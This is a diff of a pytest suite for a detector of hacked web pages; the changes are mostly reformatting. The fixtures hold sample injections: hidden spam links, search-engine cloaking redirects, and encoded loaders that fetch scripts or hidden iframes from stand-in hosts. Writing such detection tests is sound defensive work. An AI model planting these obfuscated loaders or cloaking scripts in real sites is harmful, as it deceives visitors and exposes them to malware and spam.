@@ -1,6 +1,7 @@
 """Every technique the standard lists, written anew: who finds it, and how surely."""
 
 import base64
+from urllib.parse import quote
 
 import pytest
 
@@ -34,13 +35,34 @@ def charcodes(code: str) -> str:
 
 
 HIDING = [
-    "display:none", "DISPLAY : none !important", "visibility:hidden", "visibility: collapse", "position:absolute;left:-12623px",
-    "position:absolute;top:-9990px", "position:fixed;right:-7566px", "left:expression(1-900);position:absolute", "text-indent:-469em",
-    "text-indent:-9999px;display:block", "font-size:0", "font-size:1px", "line-height:0;overflow:hidden", "overflow:hidden;height:1px", "height:0;width:0;overflow:hidden",
-    "position:absolute;opacity:0.001;filter:alpha(opacity=0);z-index:10", "opacity:0", "transform:scale(0)", "clip:rect(0,0,0,0);position:absolute",
-    "clip-path:inset(100%)", "position:absolute;clip:rect(0px 0px 0px 0px)", "margin-left:-5000px", "transform:translateX(-9999px)", "position:absolute;left:9999px;top:0",
-    "max-height:0;overflow:hidden", "color:#ffffff;background:#fefefe", "display:none;color:red",
-]  # fmt: skip
+    "display:none",
+    "DISPLAY : none !important",
+    "visibility:hidden",
+    "visibility: collapse",
+    "position:absolute;left:-12623px",
+    "position:absolute;top:-9990px",
+    "position:fixed;right:-7566px",
+    "left:expression(1-900);position:absolute",
+    "text-indent:-469em",
+    "text-indent:-9999px;display:block",
+    "font-size:0",
+    "font-size:1px",
+    "line-height:0;overflow:hidden",
+    "overflow:hidden;height:1px",
+    "height:0;width:0;overflow:hidden",
+    "position:absolute;opacity:0.001;filter:alpha(opacity=0);z-index:10",
+    "opacity:0",
+    "transform:scale(0)",
+    "clip:rect(0,0,0,0);position:absolute",
+    "clip-path:inset(100%)",
+    "position:absolute;clip:rect(0px 0px 0px 0px)",
+    "margin-left:-5000px",
+    "transform:translateX(-9999px)",
+    "position:absolute;left:9999px;top:0",
+    "max-height:0;overflow:hidden",
+    "color:#ffffff;background:#fefefe",
+    "display:none;color:red",
+]
 
 
 @pytest.mark.parametrize("style", HIDING)
@@ -58,7 +80,10 @@ def test_one_spam_link_in_a_nameless_box(accused, document, style):
     [
         "".join(f"<div style='display:none'>{ONE.replace('abc', f'a{n}')}</div>" for n in range(3)),
         "".join(f'<a style="display:none" href="http://a{n}-lamp.com/">灯具{n}</a>' for n in range(4)),
-        "".join(f"<a style=position:absolute;left:-9999px;top:-9999px; href=http://a{n}-lamp.com/>灯具{n}</a>" for n in range(4)),
+        "".join(
+            f"<a style=position:absolute;left:-9999px;top:-9999px; href=http://a{n}-lamp.com/>灯具{n}</a>"
+            for n in range(4)
+        ),
         f"<!---本站友情链接，请勿删除---><div style='display:none'><strong style='font-weight:400'>友情链接:{LINKS}</strong></div>",
         f"<marquee style='position:absolute;width:0px'>{LINKS}</marquee>",
         f"<marquee height=1 width=8 scrollamount=3000 scrolldelay=20000>{LINKS}</marquee>",
@@ -68,22 +93,27 @@ def test_one_spam_link_in_a_nameless_box(accused, document, style):
         f"<div hidden>{LINKS}</div>",
         f"<p style='display:none'>{LINKS}</p>",
         f"<font style='position:absolute;left:-3000px'>{LINKS}</font>",
-        '<script>document.write("<div style=\\"position: absolute; top: -987px;left: -987px;\\">")</script>' + LINKS + "</div>",
+        '<script>document.write("<div style=\\"position: absolute; top: -987px;left: -987px;\\">")</script>'
+        + LINKS
+        + "</div>",
         "<script>document.write('<div sty'+'le=\"display:none\">')</script>" + LINKS + "</div>",
         f"<script>{packed('document.write(' + chr(34) + '<div style=display:none>' + chr(34) + ')')}</script>{LINKS}</div>",
         '<div style="display:none"><a href="https://fkm.ui.ac.id/user/">kampus</a><a href="https://diskes.go.id/wp-includes/fonts/">dinas</a></div>',
         '<span style="visibility: collapse"><a href="https://tinyurl.com/abc123">more</a></span>',
         '<a href="http://abc-lamp.com/" style="opacity:.01;z-index:2147483647;position:fixed;top:0;left:0;width:100%;height:100%"></a>',
         "<style>.dnn{position:absolute;top:-9999px}</style><div class=dnn>" + CASINO + "</div>",
-        "<style>.bbb{color:#FFFFFE !Important}</style><span class=bbb><a class=bbb href=http://abc-lamp.com/>louis vuitton outlet</a></span>",
-        "<div id=linkbyme>" + CASINO + "</div><script>document.getElementById('linkbyme').style.display='none';</script>",
+        "<style>.bbb{color:#FFFFFE !Important}</style><span class=bbb>"
+        "<a class=bbb href=http://abc-lamp.com/>louis vuitton outlet</a></span>",
+        "<div id=linkbyme>"
+        + CASINO
+        + "</div><script>document.getElementById('linkbyme').style.display='none';</script>",
         "<textarea style='display:none'>" + CASINO + "</textarea>",
         "<noscript>" + CASINO + "</noscript>",
         "<xmp style='display:none'>" + CASINO + "</xmp>",
         "<div style='display:none'><a href='http://q.com/slot-gacor/'>.</a><a href='http://r.com/'>,</a></div>",
         "<div style='display:none'><a href=&#104;ttp://abc-lamp.com/>&#28595;&#38376;&#26032;&#33889;&#20140;</a></div>",
     ],
-)  # fmt: skip
+)
 def test_forms_of_hidden_links(accused, document, body):
     assert accused(document(body))["hidden_link"].startswith("fail")
 
@@ -91,12 +121,15 @@ def test_forms_of_hidden_links(accused, document, body):
 @pytest.mark.parametrize(
     "body",
     [
-        f"<div style='display:none'>{ONE}</div>", f"<div style='position:absolute;left:-9999px'>{ONE}</div>",
-        "<style>.sea{display:none}</style><div class=sea>" + "".join(f"<a href=http://a{n}-lamp.com/>灯具</a>" for n in range(9)) + "</div>",
+        f"<div style='display:none'>{ONE}</div>",
+        f"<div style='position:absolute;left:-9999px'>{ONE}</div>",
+        "<style>.sea{display:none}</style><div class=sea>"
+        + "".join(f"<a href=http://a{n}-lamp.com/>灯具</a>" for n in range(9))
+        + "</div>",
         f"<div id=lk>{LINKS}</div><script>document.getElementById('lk').style.display='none'</script>",
         "<marquee height=1 width=8 scrollamount=3000></marquee>",
     ],
-)  # fmt: skip
+)
 def test_doubtful_forms_are_for_a_person(accused, document, body):
     assert accused(document(body))["hidden_link"].startswith("review")
 
@@ -127,12 +160,16 @@ AGENT = 'if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu") == -1){docu
 @pytest.mark.parametrize(
     "code",
     [
-        AGENT, "if(!navigator.userAgent.match(/baiduspider|sogou|360spider|yisou/i)){document.title='原标题'}",
+        AGENT,
+        "if(!navigator.userAgent.match(/baiduspider|sogou|360spider|yisou/i)){document.title='原标题'}",
         "var s=document.referrer;if(s.indexOf('baidu')>0||s.indexOf('sogou')>0){document.title='x'}",
-        f"eval('{escaped(AGENT)}')", f"eval(String.fromCharCode({charcodes(AGENT)}))", packed(AGENT), f"eval(unescape('{percent(AGENT)}'))",
+        f"eval('{escaped(AGENT)}')",
+        f"eval(String.fromCharCode({charcodes(AGENT)}))",
+        packed(AGENT),
+        f"eval(unescape('{percent(AGENT)}'))",
         f"eval(atob('{base64.b64encode(AGENT.encode()).decode()}'))",
     ],
-)  # fmt: skip
+)
 def test_title_by_visitor(accused, document, code):
     assert accused(document("", head=f"<title>x</title><script>{code}</script>"))["head_hijack"].startswith(
         "fail title-by"
@@ -155,12 +192,22 @@ def test_spam_in_the_head(accused, document, head, expected):
     assert accused(document("", head=head))["head_hijack"] == expected
 
 
+CODINGS = [
+    packed,
+    lambda code: packed(packed(code)),
+    lambda code: f"eval('{escaped(code)}')",
+    lambda code: f"eval(unescape('{percent(code)}'))",
+    lambda code: f"eval(String.fromCharCode({charcodes(code)}))",
+    lambda code: f"eval(atob('{base64.b64encode(code.encode()).decode()}'))",
+    lambda code: f"var z='{code.encode().hex()}';eval(dec(z))",
+    lambda code: 'eval("' + code[::-1].replace('"', '\\"') + "\".split('').reverse().join(''))",
+]
 LOADER = "document.write('<script src=\"https://zh123.com/yb.js\"></'+'script>')"
 FRAME = "document.write('<iframe src=\"http://bad-site.com/a.htm\" width=0 height=0></iframe>')"
 
 
 @pytest.mark.parametrize("code", [LOADER, FRAME])
-@pytest.mark.parametrize("coding", [packed, lambda c: f"eval('{escaped(c)}')", lambda c: f"eval(unescape('{percent(c)}'))", lambda c: f"eval(String.fromCharCode({charcodes(c)}))", lambda c: f"eval(atob('{base64.b64encode(c.encode()).decode()}'))", lambda c: packed(packed(c)), lambda c: f"var z='{c.encode().hex()}';eval(dec(z))", lambda c: f"eval(\"{c[::-1].replace(chr(34), chr(92) + chr(34))}\".split('').reverse().join(''))"])  # fmt: skip
+@pytest.mark.parametrize("coding", CODINGS)
 def test_coded_loaders(accused, document, code, coding):
     assert accused(document(f"<script>{coding(code)}</script>"))["injected_script"].startswith("fail coded-")
 
@@ -168,16 +215,34 @@ def test_coded_loaders(accused, document, code, coding):
 @pytest.mark.parametrize(
     ("body", "expected"),
     [
-        ("<script>document.write(unescape('" + percent("<html><iframe src=http://bad-site.com/></iframe></html>") + "'))</script>", "fail coded-loader"),
+        (
+            "<script>document.write(unescape('"
+            + percent("<html><iframe src=http://bad-site.com/></iframe></html>")
+            + "'))</script>",
+            "fail coded-loader",
+        ),
         ("<script src=https://jquery-css.su/app/main.js></script>", "fail look-alike-host"),
         ("<script src=//bootstrap-cdn.com/b.js></script>", "fail look-alike-host"),
-        ("<script language=vbscript>DropFileName = \"svchost.exe\"\nWriteData = \"4D5A90\"</script>", "fail file-infector"),
+        ('<script language=vbscript>DropFileName = "svchost.exe"\nWriteData = "4D5A90"</script>', "fail file-infector"),
         ("<li><a href=x.php><script src=https://js-tools.my.id/raw/~/ABC></script></a></li>", "fail script-in-field"),
-        ("<script>var a=['\\x72\\x65\\x66\\x65\\x72\\x72\\x65\\x72','\\x62\\x61\\x69\\x64\\x75','\\x73\\x6f\\x67\\x6f\\x75','\\x73\\x6f\\x73\\x6f','\\x68\\x72\\x65\\x66'];".replace("'", '"') + "</script>", "fail coded-redirect"),
-        ("<span style='position:absolute;top:-1184px;width:306px'>" + "ejx 7a kq3 zzt rw9f pqh 4k vbn mxl 2d " * 20 + "</span>", "fail payload-text"),
-        ("<script>if(/check|one/.test(window.location)){document.write('<script src=https://stats-x.eu/m.js></scr'+'ipt>')}</script>", "review conditional-loader"),
+        (
+            "<script>var a=["
+            + ",".join(f'"{escaped(word)}"' for word in ("referrer", "baidu", "sogou", "soso", "href"))
+            + "];</script>",
+            "fail coded-redirect",
+        ),
+        (
+            "<span style='position:absolute;top:-1184px;width:306px'>"
+            + "ejx 7a kq3 zzt rw9f pqh 4k vbn mxl 2d " * 20
+            + "</span>",
+            "fail payload-text",
+        ),
+        (
+            "<script>if(/check|one/.test(window.location)){document.write('<script src=https://stats-x.eu/m.js></scr'+'ipt>')}</script>",
+            "review conditional-loader",
+        ),
     ],
-)  # fmt: skip
+)
 def test_forms_of_injected_scripts(accused, document, body, expected):
     assert accused(document(body)).get("injected_script") == expected
 
@@ -211,10 +276,18 @@ def test_scripts_in_the_title_and_after_the_end(accused, document):
         ("<iframe src=http://bad-site.com/w.htm width=0 height=0></iframe>", "", "review hidden-frame"),
         ("<iframe src=http://bad-site.com/w.htm width=1 height=1></iframe>", "", "review hidden-frame"),
         ("<div style='display:none'><iframe src=http://bad-site.com/></iframe></div>", "", "review hidden-frame"),
-        ("<iframe style='width:100%;height:100%;position:fixed;top:0' src=http://bad-site.com/></iframe>", "", "review covering-frame"),
-        ("<div style='position:absolute;opacity:0;z-index:-1'><object><param name=movie value=http://dofned.tk/p.swf></object></div>", "", "fail hidden-object"),
+        (
+            "<iframe style='width:100%;height:100%;position:fixed;top:0' src=http://bad-site.com/></iframe>",
+            "",
+            "review covering-frame",
+        ),
+        (
+            "<div style='position:absolute;opacity:0;z-index:-1'><object><param name=movie value=http://dofned.tk/p.swf></object></div>",
+            "",
+            "fail hidden-object",
+        ),
     ],
-)  # fmt: skip
+)
 def test_frames(accused, document, body, after, expected):
     assert accused(document(body, after=after))["hidden_frame"] == expected
 
@@ -227,13 +300,19 @@ def test_frameset_of_zero_height(accused):
 @pytest.mark.parametrize(
     ("body", "expected"),
     [
-        ("".join(f'<{tag} id="tqme-atmf"></{tag}>' for tag in ("legend", "track", "acronym", "th", "source", "dfn")), "fail random-tags"),
+        (
+            "".join(f'<{tag} id="tqme-atmf"></{tag}>' for tag in ("legend", "track", "acronym", "th", "source", "dfn")),
+            "fail random-tags",
+        ),
         ("<delect id=a-b></delect><delect></delect>", "fail unknown-tag"),
-        ('<div id="xkqpz" class="pl_css_ganrao" style="display: none;"><acronym></acronym></div>', "review interference"),
+        (
+            '<div id="xkqpz" class="pl_css_ganrao" style="display: none;"><acronym></acronym></div>',
+            "review interference",
+        ),
         ("<p>國務(wù)院辦公廳關(guān)于政府網(wǎng)站發(fā)展指引的通知辦(bàn)公(gōng)</p>", "review pinyin-text"),
         ("<p>开云体育 I 米兰体育 I 乐鱼体育 I 华体会 I 必威 I 官网</p>", "review keyword-bar"),
     ],
-)  # fmt: skip
+)
 def test_junk(accused, document, body, expected):
     assert accused(document(body))["junk_markup"] == expected
 
@@ -257,12 +336,28 @@ def test_defacement(accused, document, text):
 @pytest.mark.parametrize(
     ("head", "url", "expected"),
     [
-        ("<title>#tits#</title><meta name=keywords content='#key#'><meta name=description content='#desc#'>", None, "review unfilled-doorway"),
-        ("<title>搜索 澳门新葡京官网 结果</title>", "http://www.yunze.gov.cn/s?q=%E6%BE%B3%E9%97%A8%E6%96%B0%E8%91%A1%E4%BA%AC%E5%AE%98%E7%BD%91", "fail reflected-spam"),
-        ("<title>雷竞技下载</title><meta name=description content='💖【aiyoubet79.com】优惠💖'>", None, "fail address-in-head"),
-        ("<title>x</title><link rel=canonical href='http://www.yunze.gov.cn/hls/..%5C..%5Cwin.ini/a.mp3'>", None, "review foreign-canonical"),
+        (
+            "<title>#tits#</title><meta name=keywords content='#key#'><meta name=description content='#desc#'>",
+            None,
+            "review unfilled-doorway",
+        ),
+        (
+            "<title>搜索 澳门新葡京官网 结果</title>",
+            "http://www.yunze.gov.cn/s?q=" + quote("澳门新葡京官网"),
+            "fail reflected-spam",
+        ),
+        (
+            "<title>雷竞技下载</title><meta name=description content='💖【aiyoubet79.com】优惠💖'>",
+            None,
+            "fail address-in-head",
+        ),
+        (
+            "<title>x</title><link rel=canonical href='http://www.yunze.gov.cn/hls/..%5C..%5Cwin.ini/a.mp3'>",
+            None,
+            "review foreign-canonical",
+        ),
     ],
-)  # fmt: skip
+)
 def test_doorways(accused, document, head, url, expected):
     assert accused(document("", head=head), url or "http://www.yunze.gov.cn/a/1.html")["doorway"] == expected
 
@@ -270,12 +365,24 @@ def test_doorways(accused, document, head, url, expected):
 @pytest.mark.parametrize(
     ("code", "expected"),
     [
-        ("var r=document.referrer;if(r.indexOf('baidu')>0||r.indexOf('sogou')>0){window.location.href='http://bad-site.com/'}", "fail search-visitors"),
-        ("if(/baiduspider|sogou/i.test(navigator.userAgent)){location.replace('http://bad-site.com/')}", "fail spider-redirect"),
-        ("if(/iphone|android/i.test(navigator.userAgent)){location.href='http://bad-site.com/m'}", "review mobile-visitors"),
-        ("if(/iphone|android/i.test(navigator.userAgent)){location.href='http://slot88.bad-site.com/m'}", "fail mobile-visitors"),
+        (
+            "var r=document.referrer;if(r.indexOf('baidu')>0||r.indexOf('sogou')>0){window.location.href='http://bad-site.com/'}",
+            "fail search-visitors",
+        ),
+        (
+            "if(/baiduspider|sogou/i.test(navigator.userAgent)){location.replace('http://bad-site.com/')}",
+            "fail spider-redirect",
+        ),
+        (
+            "if(/iphone|android/i.test(navigator.userAgent)){location.href='http://bad-site.com/m'}",
+            "review mobile-visitors",
+        ),
+        (
+            "if(/iphone|android/i.test(navigator.userAgent)){location.href='http://slot88.bad-site.com/m'}",
+            "fail mobile-visitors",
+        ),
     ],
-)  # fmt: skip
+)
 def test_redirects(accused, document, code, expected):
     assert accused(document(f"<script>{code}</script>"))["mobile_redirect"] == expected
 
